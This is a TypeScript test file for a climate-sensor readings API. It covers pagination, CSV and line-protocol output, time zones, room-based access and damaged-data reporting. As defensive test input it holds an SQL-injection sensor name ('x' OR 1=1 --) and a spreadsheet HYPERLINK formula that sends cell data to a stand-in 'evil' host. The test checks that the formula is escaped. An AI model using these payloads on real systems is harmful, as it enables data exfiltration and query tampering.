/** `GET /api/v1/readings` against real stores: every reading exactly once, in each form, page by page and as a whole. */
import assert from 'node:assert/strict';
import { DatabaseSync } from 'node:sqlite';
import { test } from 'node:test';
import type { Worker } from 'node:worker_threads';
import { endOf } from '@climat-guardian/suite/processes/end-of';
import { startInfluxd } from '@climat-guardian/suite/processes/influxd';
import type { Readings } from '../api/schema.ts';
import { parseMac, type Mac } from '../src/reading/mac.ts';
import { chance } from './chance.ts';
import { valuesInInfluxd } from './forward/stored-values.ts';
import { toldBy, toldByCsv, toldByLines } from './readings-forms.ts';
import { makeHistory, sensorName, type History, type Told } from './readings-history.ts';
import { served, type Served } from './readings-served.ts';

async function byPages(
  { json }: Served,
  query: Record<string, string>,
  limit: () => number,
): Promise<Told[]> {
  const all: Told[] = [];
  for (let cursor: string | null | undefined; cursor !== null;) {
    const size = limit();
    const page = await json({ ...query, limit: String(size), ...(cursor !== undefined && { cursor }) });
    assert.ok(page.next === null || page.readings.length === size);
    all.push(...toldBy(page));
    cursor = page.next;
  }
  return all;
}

/** What may be asked, and which readings that is. */
function questions({ from, to }: History): [Record<string, string>, (one: Told) => boolean][] {
  const middle = from + Math.floor((to - from) / 2);
  const iso = (at: number): string => new Date(at).toISOString();
  const within = (first: number, until: number) => (one: Told) => one.at >= first && one.at < until;
  const all = { from: iso(from), to: iso(to) };
  const inAll = within(from, to);
  return [
    [{ room: 'lab', ...all }, (one) => one.room === 'lab' && inAll(one)],
    [
      { room: 'cellar', ...all, quantity: 'temperature' },
      (one) => one.room === 'cellar' && one.sensor.includes('temperature'),
    ],
    [{ room: 'lab', from: iso(middle), to: iso(to) }, (one) => one.room === 'lab' && within(middle, to)(one)],
    [{ device: 'A0-B7-65-00-00-01', ...all }, (one) => one.sensor.startsWith('a0b765000001')],
    [{ sensor: sensorName(2), ...all }, (one) => one.sensor === sensorName(2)],
  ];
}

test('every reading is told exactly once: in pages of any size, as CSV and as line protocol', async (t) => {
  for (let seed = 1; seed <= 6; seed++) {
    const here = await served(t);
    const history = await makeHistory(here.store, here.path, seed);
    assert.ok(history.all.some(({ room }) => room === null) && history.all.length > 500);
    const random = chance(seed);
    for (const [query, isAsked] of questions(history)) {
      const expected = history.all.filter(isAsked);
      const what = `seed ${String(seed)}: ${JSON.stringify(query)}`;
      assert.ok(expected.length > 0, what);
      assert.deepEqual(await byPages(here, query, () => 1 + Math.floor(random() * 400)), expected, what);
      assert.deepEqual(toldByCsv(await (await here.ask({ ...query, format: 'csv' })).text()), expected, what);
      assert.deepEqual(
        toldByLines(await (await here.ask({ ...query, format: 'line' })).text()),
        expected,
        what,
      );
    }
  }
});

test('pages of one reading meet all that are measured in one instant', async (t) => {
  const here = await served(t);
  const { all } = await makeHistory(here.store, here.path, 11);
  const [query] = questions({ from: all[0]?.at ?? 0, to: (all[0]?.at ?? 0) + 3 * 3_600_000, all })[3] ?? [];
  assert.ok(query);
  const one = await byPages(here, query, () => 1);
  assert.deepEqual(one, await byPages(here, query, () => 10_000));
  const instants = one.map(({ at }) => at);
  assert.ok(new Set(instants).size < instants.length, 'some were measured in one instant');
});

test('while readings arrive, late ones too, and are folded, no page repeats or loses what was there before', async (t) => {
  for (let seed = 21; seed <= 26; seed++) {
    const here = await served(t);
    const { from, to, all } = await makeHistory(here.store, here.path, seed);
    const random = chance(seed);
    const question = {
      room: 'cellar',
      from: new Date(from).toISOString(),
      to: new Date(to + 3_600_000).toISOString(),
    };
    const seen: Told[] = [];
    for (let cursor: string | null = null, first = true; first || cursor !== null; first = false) {
      const limit = String(1 + Math.floor(random() * 60));
      const page: Readings = await here.json({ ...question, limit, ...(cursor !== null && { cursor }) });
      seen.push(...toldBy(page));
      cursor = page.next;
      for (let i = 0; i < 5; i++) {
        // Anywhere: before what was told, after it, and where it is told just now.
        const measuredAt = from + Math.floor(random() * (to + 3_600_000 - from));
        here.store.append({ sensor: 5 + Math.floor(random() * 2), measuredAt, value: random() });
      }
      await here.store.commit();
      if (random() < 0.3) await here.store.fold(to + Math.floor(random() * 4) * 3_600_000);
    }
    const key = ({ at, sensor }: Told): string => `${String(at).padStart(14, '0')} ${sensor}`;
    const keys = seen.map(key);
    assert.equal(new Set(keys).size, keys.length, 'none twice');
    const places = new Set(keys);
    const lost = all.filter((one) => one.room === 'cellar' && !places.has(key(one)));
    assert.deepEqual(lost, []);
    assert.ok(seen.length > all.filter(({ room }) => room === 'cellar').length, 'new ones were told too');
    const times = seen.map(({ at }) => at);
    assert.deepEqual(
      times,
      times.toSorted((a, b) => a - b),
    );
  }
});

test('line protocol is what a sink would have got: a real InfluxDB takes it, twice, and has each reading once', async (t) => {
  const here = await served(t);
  const { all, from, to } = await makeHistory(here.store, here.path, 31);
  await using influxd = await startInfluxd();
  await influxd.query('', 'CREATE DATABASE climate');
  const period = { from: new Date(from).toISOString(), to: new Date(to).toISOString(), format: 'line' };
  for (const device of ['a0b765000001', 'a0b765000002', 'a0b765000002'])
    await influxd.write('climate', await (await here.ask({ device, ...period })).text());
  const expected = all.map(({ at, sensor, room, thousandths }) => {
    const [mac = '', entity = '', quantity = ''] = sensor.split('.');
    const place = room === null ? '' : `,room=${room}`;
    const device = mac.match(/../g)?.join(':') ?? '';
    const value = String(thousandths / 1000);
    return `climate,device=${device}${place},sensor=${entity},site=home ${quantity} ${String(at)} ${value}`;
  });
  assert.deepEqual(await valuesInInfluxd(influxd, 'climate'), expected.sort());
});

test('a date begins at midnight of the site, also on the days of 23 and 25 hours', async (t) => {
  const { json } = await served(t).then(async (here) => {
    await makeHistory(here.store, here.path, 1);
    return here;
  });
  const hours = async (from: string, to: string): Promise<number> => {
    const { period } = await json({ room: 'lab', from, to });
    return (Date.parse(period.to) - Date.parse(period.from)) / 3_600_000;
  };
  assert.equal(await hours('2026-03-29', '2026-03-30'), 23);
  assert.equal(await hours('2026-10-25', '2026-10-26'), 25);
  const { period } = await json({ room: 'lab' });
  assert.deepEqual(period, { from: '2026-10-19T00:00:00.000Z', to: '2026-10-26T00:00:00.000Z' });
  const plus = await json({
    room: 'lab',
    from: '2026-10-20T10:00:00 02:00',
    to: '2026-10-21t00:00:00.1239z',
  });
  assert.deepEqual(plus.period, { from: '2026-10-20T08:00:00.000Z', to: '2026-10-21T00:00:00.123Z' });
  assert.equal((await json({ room: 'lab', from: '0001-01-01' })).period.from, '1970-01-01T00:00:00.000Z');
});

test('what cannot be answered is refused by the name of what is wrong', async (t) => {
  const here = await served(t);
  await makeHistory(here.store, here.path, 1);
  const { next } = await here.json({ room: 'lab', from: '2020-01-01', limit: '1' });
  assert.ok(next !== null);
  const cases: [Record<string, string>, status: number, field?: string][] = [
    [{ room: 'attic' }, 404],
    [{ device: 'a0b765000009' }, 404],
    [{ sensor: 'a0b765000001.temperature.humidity' }, 404],
    [{ sensor: "a0b765000001.x' OR 1=1 --.humidity" }, 404],
    [{}, 422, 'room'],
    [{ room: 'lab', device: 'a0b765000001' }, 422, 'room'],
    [{ device: 'kitchen' }, 422, 'device'],
    [{ sensor: 'a0b765000001' }, 422, 'sensor'],
    [{ room: 'lab', from: 'yesterday' }, 422, 'from'],
    [{ room: 'lab', to: '2026-02-30' }, 422, 'to'],
    [{ room: 'lab', to: '2026-02-30T10:00:00Z' }, 422, 'to'],
    [{ room: 'lab', from: '2026-10-20T25:00:00Z' }, 422, 'from'],
    [{ room: 'lab', from: '2026-10-20T10:00:00' }, 422, 'from'],
    [{ room: 'lab', from: '2026-10-21', to: '2026-10-20' }, 422, 'from'],
    [{ room: 'lab', from: '2026-10-21', to: '2026-10-21' }, 422, 'from'],
    [{ room: 'lab', from: '2026-11-21' }, 422, 'from'],
    [{ room: 'lab', quantity: 'noise' }, 400, 'quantity'],
    [{ room: 'lab', limit: '0' }, 400, 'limit'],
    [{ room: 'lab', limit: '10001' }, 400, 'limit'],
    [{ room: 'lab', format: 'xml' }, 400, 'format'],
    [{ room: 'lab', cursor: 'abc' }, 400, 'cursor'],
    [{ room: 'lab', cursor: '' }, 400, 'cursor'],
    // Of another question, and changed by hand.
    [{ room: 'cellar', from: '2020-01-01', cursor: next }, 400, 'cursor'],
    [{ room: 'lab', from: '2020-01-02', cursor: next }, 400, 'cursor'],
    [
      { room: 'lab', from: '2020-01-01', cursor: next.replace(/^./, (c) => (c === 'a' ? 'b' : 'a')) },
      400,
      'cursor',
    ],
  ];
  for (const [query, status, field] of cases) {
    for (const format of ['json', 'csv']) {
      const answer = await here.ask({ format, ...query });
      const problem = (await answer.json()) as { status?: unknown; field?: unknown };
      assert.deepEqual([answer.status, problem.field], [status, field], JSON.stringify(query));
      assert.match(answer.headers.get('content-type') ?? '', /^application\/problem\+json/);
    }
  }
});

test('who may read one room gets of every question only what stood there then', async (t) => {
  const here = await served(t);
  const { all, from, to } = await makeHistory(here.store, here.path, 2);
  const period = { from: new Date(from).toISOString(), to: new Date(to).toISOString(), format: 'csv' };
  const only = { 'x-rooms': 'cellar' };
  const told = async (query: Record<string, string>): Promise<Told[]> =>
    toldByCsv(await (await here.ask({ ...period, ...query }, only)).text());
  const inCellar = all.filter(({ room }) => room === 'cellar');
  assert.deepEqual(await told({ room: 'cellar' }), inCellar);
  const moved = inCellar.filter(({ sensor }) => sensor === sensorName(2));
  assert.ok(moved.length > 0);
  assert.deepEqual(await told({ device: 'a0b765000001' }), moved);
  assert.deepEqual(await told({ sensor: sensorName(2) }), moved);
  for (const query of [{ room: 'lab' }, { sensor: sensorName(3) }, { sensor: sensorName(1) }]) {
    const [theirs, unknown] = await Promise.all([
      here.ask({ ...period, ...query }, only),
      here.ask({ ...period, room: 'attic' }, only),
    ]);
    assert.equal(theirs.status, 404, JSON.stringify(query));
    const codeOf = async (answer: Response): Promise<unknown> =>
      ((await answer.json()) as { code: unknown }).code;
    assert.equal(await codeOf(theirs), await codeOf(unknown));
  }
});

test('the form is chosen by format, else by Accept, and a table is no place for formulas', async (t) => {
  const here = await served(t);
  const mac = (await makeHistory(here.store, here.path, 3), 'a0b765000003');
  const entity = '=HYPERLINK("http://evil/?"&A1,"x")';
  const sensors = [{ entity, quantity: 'temperature', diagnostic: false }] as const;
  const description = { mac: 'a0:b7:65:00:00:03', name: '', friendlyName: '', area: '+49' };
  const { sensors: known } = await here.store.register({
    ...description,
    mac: macOf(description.mac),
    sensors,
  });
  const id = known.at(-1)?.id ?? 0;
  const measuredAt = Date.UTC(2026, 9, 25, 12);
  here.store.append({ sensor: id, measuredAt, value: -3.25, receivedAt: measuredAt + 1500 });
  await here.store.commit();
  const csv = await here.ask(
    { device: mac },
    { accept: 'text/html;q=0.5, text/csv;q=0.9, application/json;q=0.1' },
  );
  assert.match(csv.headers.get('content-type') ?? '', /^text\/csv; charset=utf-8/);
  assert.equal(csv.headers.get('vary'), 'accept');
  assert.equal(
    await csv.text(),
    'measured_at,received_at,room,device,sensor,temperature [°C],humidity [%],pressure [hPa],co2 [ppm],' +
      'illuminance [lx],signal [dBm],missing\r\n' +
      '2026-10-25T12:00:00.000Z,2026-10-25T12:00:01.500Z,49,a0:b7:65:00:00:03,' +
      `"'=HYPERLINK(""http://evil/?""&A1,""x"")",-3.25,,,,,,\r\n`,
  );
  const one = await here.ask({ device: mac, quantity: 'temperature' }, { accept: 'text/csv' });
  assert.match(await one.text(), /,sensor,temperature \[°C\],missing\r\n.*,-3\.25,\r\n$/);
  for (const accept of [
    '*/*',
    'text/html,application/xhtml+xml,*/*;q=0.8',
    'image/png',
    'application/json',
  ]) {
    const answer = await here.ask({ device: mac }, { accept });
    assert.match(answer.headers.get('content-type') ?? '', /^application\/json/, accept);
  }
  const lines = await here.ask({ device: mac }, { accept: 'text/plain' });
  assert.match(lines.headers.get('content-type') ?? '', /^text\/plain/);
  const both = await here.ask({ device: mac, format: 'json' }, { accept: 'text/plain' });
  const { readings } = (await both.json()) as Readings;
  assert.equal(readings[0]?.receivedAt, '2026-10-25T12:00:01.500Z');
});

test('what is damaged is told where it is missing, in each form, and everything else is there', async (t) => {
  const here = await served(t);
  const { from, to, all } = await makeHistory(here.store, here.path, 5);
  await here.store.fold(to + 2 * 3_600_000);
  const hour = Math.floor(from / 3_600_000) + 5;
  const readings = all.filter(
    (one) => one.sensor === sensorName(6) && Math.floor(one.at / 3_600_000) === hour,
  );
  {
    using other = new DatabaseSync(here.path);
    other.prepare('UPDATE block SET crc = crc + 1 WHERE sensor = 6 AND hour = ?').run(hour);
  }
  const start = new Date(hour * 3_600_000).toISOString();
  const query = { room: 'cellar', from: new Date(from).toISOString(), to: new Date(to).toISOString() };
  const whole = await here.json({ ...query, limit: '10000' });
  assert.deepEqual(whole.missing, [
    {
      sensor: sensorName(6),
      from: start,
      to: new Date((hour + 1) * 3_600_000).toISOString(),
      readings: readings.length,
    },
  ]);
  const expected = all.filter((one) => one.room === 'cellar' && !readings.includes(one));
  assert.deepEqual(toldBy(whole), expected);
  const csv = await (await here.ask({ ...query, format: 'csv' })).text();
  const line = `${start},,,a0:b7:65:00:00:02,humidity,,,,,,,${String(readings.length)}\r\n`;
  assert.ok(csv.includes(line));
  assert.deepEqual(toldByCsv(csv.replace(line, '')), expected);
  const lines = await (await here.ask({ ...query, format: 'line' })).text();
  const comment = `# damaged: ${String(readings.length)} readings of a0:b7:65:00:00:02 humidity in the hour from ${start}\n`;
  assert.ok(lines.includes(comment));
  assert.deepEqual(toldByLines(lines.replace(comment, '')), expected);
});

test('while the thread that reads is away the answer is 503, and one that was under way does not look whole', async (t) => {
  let thread: Worker | undefined;
  let isToEnd = false;
  const noteThread = (worker: Worker): void => void (thread = worker);
  process.on('worker', noteThread);
  endOf(t).defer(() => void process.off('worker', noteThread));
  const here = await served(t, (archive) => ({
    readings(question) {
      if (isToEnd) void thread?.terminate();
      isToEnd = false;
      return archive.readings(question);
    },
  }));
  const { from } = await makeHistory(here.store, here.path, 6);
  for (let i = 0; i < 60_000; i++) {
    here.store.append({ sensor: 6, measuredAt: from + 50 * 3_600_000 + i * 100, value: 40 });
    if (i % 20_000 === 0) await here.store.commit();
  }
  await here.store.commit();
  const query = { room: 'cellar', from: '2020-01-01', to: '2030-01-01' };
  assert.equal((await here.json(query)).readings.length, 1000);
  isToEnd = true;
  const refused = await here.ask(query);
  assert.equal(refused.status, 503);
  assert.equal(refused.headers.get('retry-after'), '5');
  assert.equal(((await refused.json()) as { code: unknown }).code, 'not-readable');
  assert.equal((await here.json(query)).readings.length, 1000, 'it is started again');

  const began = await here.ask({ ...query, format: 'csv' });
  assert.equal(began.status, 200);
  isToEnd = true;
  await assert.rejects(began.text());
});

test('a reader that stops reading stops the work, and one that goes away ends it', async (t) => {
  const asked = new Map<number, number>();
  const here = await served(t, (archive) => ({
    readings(question) {
      asked.set(question.from, (asked.get(question.from) ?? 0) + 1);
      return archive.readings(question);
    },
  }));
  await makeHistory(here.store, here.path, 4);
  // Half a year: some 30 MB, far more than the system's own buffers take.
  const count = 260_000;
  const start = Date.UTC(2020, 0, 1);
  for (let i = 0; i < count; i++) {
    here.store.append({ sensor: 5, measuredAt: start + i * 60_000, value: (i % 1000) / 1000 });
    if (i % 20_000 === 0) await here.store.commit();
  }
  await here.store.commit();
  await here.store.fold(start + count * 60_000 + 86_400_000);
  const query = (from: number): Record<string, string> => ({
    sensor: sensorName(5),
    from: new Date(from).toISOString(),
    to: '2025-01-01',
    format: 'csv',
  });
  const whole = async (from: number): Promise<number> => {
    const text = await (await here.ask(query(from))).text();
    return text.split('\r\n').length - 2;
  };
  const stalled = await here.ask(query(start - 1));
  const reader = stalled.body?.getReader();
  await reader?.read();
  assert.equal(await whole(start - 2), count);
  const [stalledPages = 0, allPages = 0] = [asked.get(start - 1), asked.get(start - 2)];
  assert.ok(stalledPages < allPages * 0.9, `${String(stalledPages)} of ${String(allPages)} pages`);
  await reader?.cancel();
  assert.equal(await whole(start - 3), count);
  assert.ok((asked.get(start - 1) ?? 0) < allPages * 0.9, 'nobody reads it to its end');
});

function macOf(text: string): Mac {
  const mac = parseMac(text);
  assert.ok(mac);
  return mac;
}
